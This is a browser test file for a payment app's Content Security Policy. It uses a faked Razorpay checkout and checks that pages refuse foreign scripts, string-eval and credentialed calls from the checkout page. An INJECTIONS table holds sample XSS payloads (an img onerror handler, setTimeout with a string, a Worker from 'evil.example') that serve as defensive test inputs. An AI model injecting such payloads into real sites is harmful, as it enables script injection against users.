// What the policies of our pages allow, in a real browser. That no page breaks its own is checked after every browser test.
import { startRazorpayDouble } from '@kuri/server/platform/payments/razorpay-double'
import type { Page } from 'playwright-core'
import { afterAll, expect, test } from 'vitest'
import { DESKTOP, useBrowser } from '../testing/browser.ts'
import { makeMoneyWorld } from '../testing/money-world.ts'
import { see } from '../testing/see.ts'

const KEYS = { keyId: 'rzp_test_key', keySecret: 'key secret', webhookSecret: 'webhook secret' }
const double = await startRazorpayDouble(KEYS)
afterAll(() => double.close())
const kuri = useBrowser({
  PAYMENTS: 'razorpay',
  RAZORPAY_API_URL: double.url,
  RAZORPAY_KEY_ID: KEYS.keyId,
  RAZORPAY_KEY_SECRET: KEYS.keySecret,
  RAZORPAY_WEBHOOK_SECRET: KEYS.webhookSecret,
})
const CHECKOUT_SCRIPT = 'https://checkout.razorpay.com/v1/checkout.js'

/** A checkout as Razorpay's: markup and styles of its own, a frame of its API, and a call of its telemetry. */
const RAZORPAY = `window.Razorpay = class {
  constructor(options) { this.options = options }
  open() {
    fetch('https://lumberjack.razorpay.com/v1/track', { method: 'POST', mode: 'no-cors' }).catch(() => {})
    const box = document.createElement('div')
    box.innerHTML = '<style>button { color: red }</style><iframe src="https://api.razorpay.com/v1/checkout/public"></iframe>'
    const button = (text, press) => {
      const made = document.createElement('button')
      made.textContent = text
      made.onclick = press
      box.append(made)
    }
    button('Pay order ' + this.options.order_id + ' to ' + this.options.key, () => this.options.handler())
    button('Close', () => this.options.modal.ondismiss())
    document.body.append(box)
  }
}`

async function serveRazorpay(page: Page) {
  await page.route('https://*.razorpay.com/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: 'Razorpay' }),
  )
  await page.route(CHECKOUT_SCRIPT, (route) => route.fulfill({ contentType: 'text/javascript', body: RAZORPAY }))
}

test('a member who came by links pays at Razorpay, on a page of its own, and returns to the result', async () => {
  const { devi } = await makeMoneyWorld(kuri.app)
  const page = await kuri.openAs(devi.mobileNumber, '/home')
  await serveRazorpay(page)
  await page.getByRole('link', { name: 'Money' }).first().click()
  await page.getByRole('list', { name: 'To pay' }).getByText('Month 2 · ticket 1').click()
  await page.getByRole('link', { name: 'Pay ₹2,125' }).click()
  await page.getByRole('button', { name: 'Pay ₹2,125' }).click()
  await see(page).toHaveURL(/\/checkout\.html$/)
  const orderId = [...double.orders.keys()].at(-1)
  const pay = page.getByRole('button', { name: `Pay order ${orderId} to ${KEYS.keyId}` })
  await see(pay).toBeVisible()
  await see(page.frameLocator('iframe').getByText('Razorpay')).toBeVisible()

  // Whatever runs there, it cannot call the service with the cookie of the member.
  const called = page.evaluate(() =>
    fetch('/v2/auth/refresh', { method: 'POST' }).then(
      () => 'called',
      () => 'refused',
    ),
  )
  expect(await called).toBe('refused')
  await see.poll(kuri.takeViolations).toEqual([expect.stringMatching(/^\/checkout\.html connect-src .*\/refresh$/)])

  await pay.click()
  await see(page).toHaveURL(/\/pay\/result\/c[a-z0-9]{24}$/)
  await see(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.reload()
  await see(page).toHaveURL(/\/pay\/result\//)
})

test('a checkout that cannot be loaded leads to the result, and one that was never started to the money of the member', async () => {
  const { devi } = await makeMoneyWorld(kuri.app)
  const page = await kuri.openAs(devi.mobileNumber, '/my/money')
  await page.route('https://*.razorpay.com/**', (route) => route.abort())
  await page.getByRole('list', { name: 'To pay' }).getByText('Month 2 · ticket 1').click()
  await page.getByRole('link', { name: 'Pay ₹2,125' }).click()
  await page.getByRole('button', { name: 'Pay ₹2,125' }).click()
  await see(page).toHaveURL(/\/pay\/result\/c[a-z0-9]{24}$/)
  await see(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.evaluate('sessionStorage.clear()')
  // The page leaves before it has loaded.
  await page.goto('/checkout.html', { waitUntil: 'commit' })
  await see(page).toHaveURL(/\/my\/money$/)
})

const INJECTIONS: Readonly<Record<string, string>> = {
  'a script of Razorpay': `const script = document.createElement('script'); script.src = '${CHECKOUT_SCRIPT}'; document.head.append(script)`,
  'markup from a text': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="wasHacked = true">')`,
  'code from a text': `setTimeout('wasHacked = true')`,
  'a worker of another host': `new Worker('https://evil.example/worker.js')`,
}

test.each(['/', '/sign-in', '/home', '/co'])(
  '%s runs neither scripts of other hosts nor texts as code',
  async (path) => {
    const page = await kuri.visit(path)
    await see(page.getByRole('heading', { level: 1 })).toBeVisible()
    for (const [what, code] of Object.entries(INJECTIONS)) {
      await page.evaluate(`try { ${code} } catch {}`)
      await see.poll(() => kuri.takeViolations().length, { message: what }).toBeGreaterThan(0)
    }
    expect(await page.evaluate('window.wasHacked')).toBeUndefined()
  },
)

test('a worker of our own starts under the policy of the page', async () => {
  const page = await kuri.visit('/sign-in')
  await see(page.getByRole('heading', { level: 1 })).toBeVisible()
  const started = `new Promise((resolve, reject) => {
    const worker = new Worker(new URL('/own-worker.js', location.href), { type: 'module' })
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = reject
  })`
  await page.route('**/own-worker.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "postMessage('started')" }),
  )
  expect(await page.evaluate(started)).toBe('started')
})

test('the service worker starts under the policy of the page', async () => {
  const context = await kuri.newContext({ serviceWorkers: 'allow' })
  const page = await context.newPage()
  await page.goto('/chits')
  await page.evaluate('navigator.serviceWorker.ready.then(() => true)')
  expect(context.serviceWorkers().map((worker) => new URL(worker.url()).pathname)).toEqual(['/sw.js'])
})

test('the reference page shows itself although its library may not try whether eval works', async () => {
  const page = await kuri.visit('/docs/', DESKTOP)
  // A script of 4 MB, on a machine that may be busy.
  await see(page.getByRole('heading').first()).toBeVisible({ timeout: 60_000 })
  expect(new Set(kuri.takeViolations())).toEqual(new Set(['/docs/ script-src eval']))
})
